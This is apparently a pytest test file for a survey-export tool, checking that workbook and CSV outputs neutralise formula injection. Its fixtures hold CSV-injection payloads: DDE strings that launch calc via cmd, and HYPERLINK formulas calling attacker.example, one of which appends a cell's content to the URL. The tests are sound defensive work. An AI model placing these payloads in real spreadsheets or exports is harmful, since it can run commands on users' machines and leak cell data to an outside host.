"""Every survey writer keeps hostile text as text: the workbook (cells D2, D3, 説明!A1 and every data
cell), the survey CSV, the server-settings CSV and mail.csv written by an import."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cutover.cli import app
from cutover.inventory import load_inventory
from cutover.survey import export
from cutover.survey.answers import GAROON_ONLY, INSTRUCTIONS, SHEET
from tests.survey.test_survey import FOLDER, SITE, answer

runner = CliRunner()
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # https://owasp.org/www-community/attacks/CSV_Injection
OWNERS = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"https://attacker.example\")", "@SUM(1+1)", "-1+cmd|' /C calc'!A0"]
SITE_NAME = "=HYPERLINK(\"https://attacker.example/\"&A2,\"福井\")"
ADDRESS = "=1+1@fukui.union.example"


def live_formula(cell: str) -> bool:
    return cell.startswith(OWASP_TRIGGERS) and not cell.lstrip("+-").replace(".", "", 1).isdigit()


@pytest.fixture
def hostile_root(inventory_copy: Path) -> Path:
    """The pilot site with formula-like owners, site name and one address."""
    mail = inventory_copy / FOLDER / "mail.csv"
    header, *rows = mail.read_text(encoding="utf-8-sig").splitlines()
    for index, owner in enumerate(OWNERS):
        address, kind, client, _, endpoints = next(csv.reader([rows[index]]))
        rows[index] = ",".join(f'"{v}"' for v in (address, kind, client, owner.replace('"', '""'), endpoints))
    address, kind, client, owner, endpoints = next(csv.reader([rows[-1]]))
    rows[-1] = ",".join([ADDRESS, kind, client, owner, endpoints])
    mail.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    site_yml = inventory_copy / FOLDER / "site.yml"
    site_yml.write_text(site_yml.read_text(encoding="utf-8").replace("name_ja: 福井県本部", f"name_ja: '{SITE_NAME}'"),
                        encoding="utf-8")
    inventory = load_inventory(inventory_copy)
    assert [m.owner for m in inventory.sites[SITE].mail][: len(OWNERS)] == OWNERS
    return inventory_copy


@pytest.fixture
def exported(hostile_root: Path, tmp_path: Path):
    inventory = load_inventory(hostile_root)
    return export.export_site(inventory.sites[SITE], inventory, tmp_path / "out")


def test_the_workbook_holds_no_formula_at_all(exported):
    xlsx, _ = exported
    with zipfile.ZipFile(xlsx) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_owner_and_site_cells_are_text_marked_with_a_quote_prefix(exported):
    xlsx, _ = exported
    wb = load_workbook(xlsx)
    sheet, info = wb[SHEET], wb[INSTRUCTIONS]
    for coordinate, expected in (("D2", OWNERS[0]), ("D3", OWNERS[1]), ("D4", OWNERS[2]), ("D5", OWNERS[3])):
        cell = sheet[coordinate]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True), coordinate
    assert info["A1"].value.startswith(SITE_NAME) and info["A1"].data_type == "s" and info["A1"].quotePrefix
    for row in (*sheet.iter_rows(), *info.iter_rows(), *wb["_meta"].iter_rows()):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and live_formula(cell.value):
                assert cell.quotePrefix, cell.coordinate


def test_the_survey_csv_has_no_live_formula(exported):
    _, csv_path = exported
    cells = [c for row in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert [c for c in cells if live_formula(c)] == []
    assert "'" + OWNERS[0] in cells and "'" + ADDRESS in cells


@pytest.mark.parametrize("which", ["xlsx", "csv"])
def test_an_untouched_hostile_survey_imports_without_changes(hostile_root, exported, which):
    path = exported[0] if which == "xlsx" else exported[1]
    result = runner.invoke(app, ["survey", "import", str(path), "--inventory", str(hostile_root)])
    assert result.exit_code == 0, result.output
    assert "使用者" not in result.output  # the owners came back exactly as exported
    assert "(0 change(s))" in result.output


def test_mail_csv_written_by_an_import_keeps_formulas_as_text(hostile_root, exported):
    xlsx, _ = exported
    site = load_inventory(hostile_root).sites[SITE]
    target = next(m.address for m in site.mail if m.client == "unknown")
    answer(xlsx, {target: (GAROON_ONLY, "", "")})
    result = runner.invoke(app, ["survey", "import", str(xlsx), "--inventory", str(hostile_root)])
    assert result.exit_code == 0, result.output
    raw = (hostile_root / FOLDER / "mail.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert [c for c in cells if live_formula(c)] == []
    assert [m.owner for m in load_inventory(hostile_root).sites[SITE].mail][: len(OWNERS)] == OWNERS


def test_the_server_settings_csv_has_no_live_formula(hostile_root, tmp_path):
    out = tmp_path / "settings.csv"
    result = runner.invoke(app, ["survey", "server-settings", "--site", "18", "--out", str(out),
                                 "--inventory", str(hostile_root)])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert [c for c in cells if live_formula(c)] == []
    assert "'" + ADDRESS in cells
